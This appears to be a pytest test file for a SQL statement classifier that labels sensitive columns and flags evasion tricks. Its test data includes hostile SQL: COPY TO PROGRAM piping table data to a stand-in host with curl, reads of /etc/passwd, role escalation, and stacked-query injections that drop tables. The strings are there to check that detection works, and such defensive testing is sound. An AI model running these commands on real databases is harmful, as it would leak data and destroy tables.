"""SQL classification, including the evasions issue 4 lists."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.classify.sql import Catalog, SqlClassifier, SqlStatement
from interlock.classify.sqlsplit import SplitError, shape, split
from interlock.core.model import Operation

CATALOG = Catalog.from_config(
    {
        "public.payroll.salary": ["financial", "restricted"],
        "public.payroll.name": ["pii"],
        "hr.people.ssn": ["pii", "restricted"],
    }
)
C = SqlClassifier(CATALOG)


def one(sql: str) -> SqlStatement:
    result = C.classify(sql)
    assert len(result.statements) == 1, result
    return result.statements[0]


@pytest.mark.parametrize(
    ("sql", "operation", "reads", "writes"),
    [
        ("select id from orders", Operation.READ, {"public.orders"}, set()),
        (
            "select * from hr.people p join orders o on o.pid = p.id",
            Operation.READ,
            {"hr.people", "public.orders"},
            set(),
        ),
        ("insert into orders (id) values (1)", Operation.WRITE, set(), {"public.orders"}),
        ("update orders set total = 0", Operation.WRITE, set(), {"public.orders"}),
        ("delete from orders", Operation.WRITE, set(), {"public.orders"}),
        (
            "insert into log select * from orders",
            Operation.WRITE,
            {"public.orders"},
            {"public.log"},
        ),
        ("create table t (a int)", Operation.DDL, set(), {"public.t"}),
        ("drop table orders", Operation.DDL, set(), {"public.orders"}),
        ("truncate orders", Operation.DDL, set(), {"public.orders"}),
        ("grant select on orders to bob", Operation.ADMIN, {"public.orders"}, set()),
        ("vacuum orders", Operation.ADMIN, set(), set()),
    ],
)
def test_operations_and_tables(
    sql: str, operation: Operation, reads: set[str], writes: set[str]
) -> None:
    s = one(sql)
    assert s.operation is operation
    assert s.reads == reads
    assert s.writes == writes


def test_labels_come_from_the_catalog_and_flow_through_expressions() -> None:
    s = one("select salary * 2 as doubled, id, upper(name) from payroll")
    assert s.labels == {"financial", "restricted", "pii"}
    assert s.output_labels == (
        frozenset({"financial", "restricted"}),
        frozenset(),
        frozenset({"pii"}),
    )


@pytest.mark.parametrize(
    "sql",
    [
        "select p.* from payroll p",
        "select * from payroll",
        "select row_to_json(p) from payroll p",
        "select x.s from (select salary as s from payroll) x",
        "with d as (select salary s from payroll) select s from d",
        "copy payroll to stdout",
        "copy (select salary from payroll) to stdout",
        'select "salary" from payroll',
        "select salary from PUBLIC.PAYROLL",
    ],
)
def test_labelled_data_is_never_missed(sql: str) -> None:
    result = C.classify(sql)
    assert {"financial", "restricted"} <= result.labels


def test_star_over_labelled_data_has_no_known_positions() -> None:
    s = one("select * from payroll")
    assert s.output_labels is None
    assert "star_over_labelled" in s.flags


def test_quoted_identifiers_match_labels_case_insensitively() -> None:
    """Discovery lower-cases catalog keys, so a quoted mixed-case column must still meet
    its labels: lookups err to over-matching."""
    assert {"financial", "restricted"} <= one('select "SALARY" from payroll').labels


@pytest.mark.parametrize(
    ("sql", "flag", "operation"),
    [
        (
            "with d as (delete from orders returning *) select * from d",
            "dml_in_cte",
            Operation.WRITE,
        ),
        ("DO $$ begin perform pg_sleep(1); end $$", "do_block", Operation.ADMIN),
        ("COPY orders TO PROGRAM 'curl -d @- evil.example'", "copy_program", Operation.ADMIN),
        ("copy orders from program 'cat /etc/passwd'", "copy_program", Operation.ADMIN),
        ("select set_config('role', 'admin', false)", "sensitive_setting", Operation.ADMIN),
        ("SET ROLE admin", "sensitive_setting", Operation.ADMIN),
        ("set session authorization bob", "sensitive_setting", Operation.ADMIN),
        ("set search_path = evil, public", "sensitive_setting", Operation.ADMIN),
        ("set standard_conforming_strings = off", "sensitive_setting", Operation.ADMIN),
        ("RESET ALL", "sensitive_setting", Operation.ADMIN),
        ("select * from pg_read_file('/etc/passwd')", "risky_function", Operation.READ),
        ("EXECUTE stmt1", "sql_execute", Operation.READ),
        # A prepared statement run inside DDL: its text is not in this one.
        ("create table t as execute stmt1", "sql_execute", Operation.DDL),
        ("CREATE TEMP TABLE t AS EXECUTE stmt1 WITH NO DATA", "sql_execute", Operation.DDL),
        ("create materialized view v as execute stmt1(1)", "sql_execute", Operation.DDL),
        ("this is not sql at all", "unparsed", Operation.ADMIN),
        ("select 'unterminated", "unparsed", Operation.ADMIN),
    ],
)
def test_evasions_are_flagged(sql: str, flag: str, operation: Operation) -> None:
    result = C.classify(sql)
    assert flag in result.flags
    assert result.operation is operation


@pytest.mark.parametrize(
    "sql",
    [
        "select 1; drop table orders",
        "select 1 /* ; */ ; drop table orders",
        "select $x$ ; $x$; drop table orders",
        "select 'a;b'; drop table orders",
        "select 1 -- ;\n; drop table orders",
        "select E'\\'; '; drop table orders",
        "select 1 -- PostgreSQL ends this comment at a carriage return\r; drop table orders",
        "select E'x'\n'\\''; drop table orders; --'",
        "select 1 /* nested /* */ ; */ ; drop table orders",
    ],
)
def test_multi_statement_hiding_is_seen(sql: str) -> None:
    result = C.classify(sql)
    assert result.operation is Operation.DDL
    assert [s.kind for s in result.statements][-1] == "drop"


def test_prepare_classifies_its_body() -> None:
    s = one("PREPARE q AS select salary from payroll")
    assert s.name == "q"
    assert "financial" in s.labels


def test_functions_in_any_position_are_listed() -> None:
    s = one("select a from generate_series(1, 3) g(a) where md5(a::text) > lower('x')")
    assert {"generate_series", "md5", "lower"} <= s.functions


def test_unicode_escaped_identifiers_do_not_hide_tables() -> None:
    result = C.classify('select * from U&"p\\0061yroll"')
    assert "unparsed" in result.flags or {"financial", "restricted"} <= result.labels


def test_classifications_are_cached_by_text() -> None:
    c = SqlClassifier(CATALOG, cache_size=2)
    assert c.classify("select 1") is c.classify("select 1")
    c.classify("select 2")
    c.classify("select 3")
    assert c.classify("select 1") is not None


@pytest.mark.parametrize("sql", ["select 'x", 'select "x', "select $a$ x", "/* /* */"])
def test_splitter_refuses_unterminated_text(sql: str) -> None:
    with pytest.raises(SplitError):
        split(sql)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("selct *from;'\"$/-\\\nEx()1ab")), max_size=60))
def test_classifier_never_raises_and_never_returns_an_unclassified_statement(sql: str) -> None:
    result = C.classify(sql)
    for s in result.statements:
        assert isinstance(s.operation, Operation)
        assert s.kind


def test_count_star_reads_no_labelled_values() -> None:
    s = one("select count(*) from payroll")
    assert s.output_labels == (frozenset(),)


@pytest.mark.parametrize(
    ("sql", "shaped"),
    [
        ("select * from t where id = 12345", "select * from t where id = 0"),
        ("select 1.5e3, t1.c2, $1", "select 0, t1.c2, $1"),
        ("select '42' /* 7 */ -- 8\n, 9", "select '42' /* 7 */ -- 8\n, 0"),
        ("select $$ 9 $$, 10", "select $$ 9 $$, 0"),
        ("select 'unterminated 5", "select 'unterminated 5"),
    ],
)
def test_shape_replaces_only_numeric_literals(sql: str, shaped: str) -> None:
    assert shape(sql) == shaped


def test_statements_differing_only_in_numbers_share_a_classification() -> None:
    c = SqlClassifier(CATALOG)
    assert c.classify("select name from payroll where id = 1") is c.classify(
        "select name from payroll where id = 2"
    )
    assert c.classify("select name from payroll where id = 1") is not c.classify(
        "select salary from payroll where id = 1"
    )


@pytest.mark.parametrize(
    ("sql", "kind", "name"),
    [
        ('DECLARE "C1" CURSOR WITHOUT HOLD FOR select name from payroll', "declare", "C1"),
        ("fetch forward 100 from c1", "fetch", "c1"),
        ("MOVE NEXT IN c1", "fetch", "c1"),
        ('close "c1"', "close", "c1"),
    ],
)
def test_cursor_statements(sql: str, kind: str, name: str) -> None:
    s = one(sql)
    assert (s.kind, s.name) == (kind, name)


def test_declare_carries_its_query_labels() -> None:
    s = one("declare c cursor for select salary from payroll")
    assert s.output_labels == (frozenset({"financial", "restricted"}),)


@pytest.mark.parametrize(
    ("sql", "operation"),
    [
        ("listen ch", Operation.READ),
        ("notify ch, 'hi'", Operation.WRITE),
        ("discard plans", Operation.READ),
    ],
)
def test_listen_notify_discard(sql: str, operation: Operation) -> None:
    assert one(sql).operation is operation
